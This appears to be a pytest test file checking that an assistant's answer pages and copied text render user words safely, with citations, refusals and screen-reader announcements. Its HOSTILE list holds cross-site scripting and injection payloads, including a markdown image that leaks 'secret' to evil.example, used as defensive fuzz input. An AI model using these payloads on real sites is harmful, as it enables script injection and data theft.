"""Answers as HTML and as text: whatever the words are, they stay words."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.records import (
    Answer,
    AnswerStatus,
    Citation,
    NearestPassage,
    Removed,
    Sentence,
    SentenceKind,
    Span,
    Turn,
)
from assistant.web.markup import (
    OTHER_LANGUAGE,
    Failure,
    announcement,
    answer_text,
    blocks_of,
    citation_text,
    confidence_word,
    conversation_html,
    growing_words,
    hint,
    summary_line,
)
from assistant.web.rendering import place, quoted, visible

DOCUMENT = "ab" * 32
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "![x](https://evil.example/?d=secret)",
    "[click](javascript:alert(1))",
    "https://evil.example/",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} `${1}`",
    "</blockquote></article><form action=//evil.example>",
    "<!--", "]]>", "&lt;script&gt;", "\u202egnp.exe", "a\x00b\x1b[31m",
)  # fmt: skip
words = st.one_of(st.sampled_from(HOSTILE), st.text(min_size=1, max_size=60))
TAGS = {
    *("div", "article", "h1", "h2", "h3", "span", "p", "a", "figure", "blockquote", "figcaption", "q", "s", "ul", "li"),
    *("section", "details", "summary", "button"),
}
ATTRIBUTES = {
    "class",
    "id",
    "href",
    "role",
    "type",
    "aria-label",
    "aria-labelledby",
    "aria-live",
    "aria-busy",
    "hidden",
}


class Seen(HTMLParser):
    """What a browser would find in the markup."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attributes]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


def citation(number: int, words: str = "Sites make goals.", **changes: object) -> Citation:
    plain = Citation(number, DOCUMENT, words, "a.pdf", 3, "iii", (words,), Span(5, 9), words)
    return replace(plain, **changes)  # type: ignore[arg-type]


def answer_of(words: str, status: AnswerStatus = AnswerStatus.PARTIAL) -> Answer:
    kinds = [(kind, (1,) if kind in {SentenceKind.QUOTED, SentenceKind.SUPPORTED} else ()) for kind in SentenceKind]
    found = status is not AnswerStatus.NOT_FOUND
    return Answer(
        question=words,
        status=status,
        sentences=tuple(Sentence(words, kind, numbers) for kind, numbers in kinds) if found else (),
        citations=(citation(1, words),) if found else (),
        removed=(Removed(words, words),),
        nearest=(NearestPassage(DOCUMENT, words, "a.pdf", 3, "iii", (words,), Span(5, 9), words),),
        confidence=0.7,
        model="quotes",
        interpreted_as=words + "?",
        searched=12,
        timings={"search": 0.1, "write": 0.02},
    )


@given(words, st.sampled_from(AnswerStatus))
def test_words_never_become_markup(words: str, status: AnswerStatus) -> None:
    turns = [Turn(words, answer_of(words, status))]
    growing = answer_of(words, AnswerStatus.ANSWERED)
    under_way = conversation_html(turns, pending=words, growing=growing, activity=growing_words(growing))
    seen = Seen(under_way + conversation_html(turns, failure=Failure(words, words)))
    assert set(seen.tags) <= TAGS
    assert {name for name, _ in seen.attributes if not name.startswith("data-")} <= ATTRIBUTES
    addresses = [value for name, value in seen.attributes if name == "href"]
    assert addresses
    assert all(address.startswith(f"/documents/{DOCUMENT}/view?start=5&end=9") for address in addresses)
    assert " ".join(visible(words).split()) in " ".join(seen.text.split())


@given(words)
def test_the_text_that_is_copied_says_what_the_page_says(words: str) -> None:
    text = answer_text(answer_of(words))
    assert visible(words) in text
    assert text.count("[1]") >= 3  # two sentences that carry it, and its line in the list


def test_every_citation_of_a_sentence_can_be_opened_and_says_where_it_leads() -> None:
    seen = Seen(conversation_html([Turn("q", answer_of("Family Engagement Framework"))]))
    labels = [value for name, value in seen.attributes if name == "aria-label" and value.startswith("Source")]
    assert labels == ["Source 1: Family Engagement Framework, p. 3 (iii)"] * 2


def test_ids_are_never_given_twice() -> None:
    answer = answer_of("Goals.")
    seen = Seen(conversation_html([Turn("q", answer), Turn("q", replace(answer, status=AnswerStatus.NOT_FOUND))]))
    ids = [value for name, value in seen.attributes if name == "id"]
    assert len(ids) == len(set(ids))


def test_what_was_taken_out_of_an_answer_is_not_shown_while_it_grows() -> None:
    growing = replace(answer_of("Goals."), removed=(Removed("Aliens run it.", "No."),), complete=False)
    seen = Seen(conversation_html([], pending="q", growing=growing, activity=growing_words(growing)))
    assert "Aliens" not in seen.text
    assert "Written and checked: 4 sentences, 1 left out. Writing on…" in seen.text
    assert "Removed: not in the sources (1)" in Seen(conversation_html([Turn("q", growing)])).text


def test_items_of_a_model_are_a_list_and_quotations_stay_quotations() -> None:
    sentences = (
        Sentence("The policy has:", SentenceKind.CONNECTIVE),
        Sentence("one", SentenceKind.SUPPORTED, (1,), item=True),
        Sentence("two", SentenceKind.SUPPORTED, (1,), item=True),
        Sentence("Goals.", SentenceKind.QUOTED, (1,), item=True),
    )
    answer = replace(answer_of("Goals."), sentences=sentences, model="openai:qwen3")
    assert [(block.list, block.source is None) for block in blocks_of(answer)] == [
        (False, True),
        (True, True),
        (False, False),
    ]
    assert "- one [1]\n- two [1]" in answer_text(answer)
    assert "written by qwen3, each sentence checked" in summary_line(answer)
    assert "written by" not in summary_line(replace(answer, sentences=sentences[-1:]))


def test_bullets_and_gaps_between_cells_are_no_part_of_what_is_quoted() -> None:
    row = "\u2022 Annual meeting \u2003 (c)(1) \u2003 School"
    answer = replace(answer_of("q"), sentences=(Sentence(row, SentenceKind.QUOTED, (1,)),))
    shown = "Annual meeting | (c)(1) | School"
    assert shown in Seen(conversation_html([Turn("q", answer)])).text
    assert f"“{shown}” [1]" in answer_text(answer)
    assert f"citation: {shown} " in announcement(answer)
    assert citation_text(replace(citation(1), quote=row), None).endswith(f"“{shown}”")
    assert quoted("(c)(1) The school holds a meeting.") == "(c)(1) The school holds a meeting."
    assert quoted("\u2022") == "\u2022"


def test_a_notice_is_shown_told_and_copied() -> None:
    answer = replace(answer_of("Goals."), notice="The language model did not answer.")
    assert answer.notice is not None
    assert answer.notice in Seen(conversation_html([Turn("q", answer)])).text
    assert answer.notice in announcement(answer)
    assert answer.notice in answer_text(answer)


def test_a_refusal_shows_the_nearest_passages_as_no_answer() -> None:
    seen = Seen(conversation_html([Turn("q", answer_of("Goals.", AnswerStatus.NOT_FOUND))]))
    assert "The sources do not say." in seen.text
    assert "Not an answer: the closest passages" in seen.text
    assert "blockquote" not in seen.tags


def test_a_question_in_another_language_is_told_why_nothing_was_found() -> None:
    refused = answer_of(
        "¿Dónde ponen las escuelas sus metas para la participación de las familias?", AnswerStatus.NOT_FOUND
    )
    assert refused.model == "quotes"
    assert hint(refused) == OTHER_LANGUAGE
    assert OTHER_LANGUAGE in Seen(conversation_html([Turn("q", refused)])).text
    assert hint(replace(refused, question="Where do the schools put their goals?")) is None
    assert hint(replace(refused, model="openai:qwen3")) is None
    assert hint(replace(refused, status=AnswerStatus.PARTIAL)) is None


def test_neighbours_from_one_section_are_one_quotation() -> None:
    other = citation(3, section=("Other",))
    sentences = tuple(Sentence("Quoted.", SentenceKind.QUOTED, (number,)) for number in (1, 2, 3))
    answer = replace(
        answer_of("x"),
        citations=(citation(1), citation(2, page=4, page_label="iv"), other),
        sentences=(sentences[0], sentences[1], Sentence("And", SentenceKind.CONNECTIVE), sentences[2]),
    )
    blocks = blocks_of(answer)
    assert [len(block.sentences) for block in blocks] == [2, 1, 1]
    assert [block.source and block.source.number for block in blocks] == [1, None, 3]
    assert blocks[0].pages == "p. 3 (iii), p. 4 (iv)"


@pytest.mark.parametrize(
    ("page", "label", "words"), [(3, "iii", "p. 3 (iii)"), (3, "3", "p. 3"), (3, None, "p. 3"), (None, None, "")]
)
def test_a_place_names_the_printed_page_where_it_differs(page: int | None, label: str | None, words: str) -> None:
    assert place(page, label) == words


def test_a_copied_citation_leaves_out_what_is_not_known() -> None:
    whole = citation(
        2, title="Title I Policy", section=("Title I Policy", "The annual meeting"), quote="All\n  parents."
    )
    assert citation_text(whole, 2024) == "[2] Title I Policy, 2024, p. 3 (iii), The annual meeting: “All parents.”"
    bare = replace(whole, page=None, page_label=None, section=())
    assert citation_text(bare, None) == "[2] Title I Policy: “All parents.”"


@pytest.mark.parametrize(
    ("confidence", "word"), [(1, "high"), (0.8, "high"), (0.79, "medium"), (0.5, "medium"), (0, "low")]
)
def test_confidence_in_words(confidence: float, word: str) -> None:
    assert confidence_word(confidence) == word


def test_the_line_below_an_answer() -> None:
    assert summary_line(answer_of("x")) == "searched 12 documents · confidence medium · 0.12 s"
    refused = replace(answer_of("x", AnswerStatus.NOT_FOUND), searched=1, timings={})
    assert summary_line(refused) == "searched 1 document"


def test_what_a_screen_reader_is_told() -> None:
    assert announcement(answer_of("Goals.")).startswith("Answer from 1 citation: Goals.")
    assert announcement(answer_of("x", AnswerStatus.NOT_FOUND)) == "The sources do not say. 1 closest passage listed."
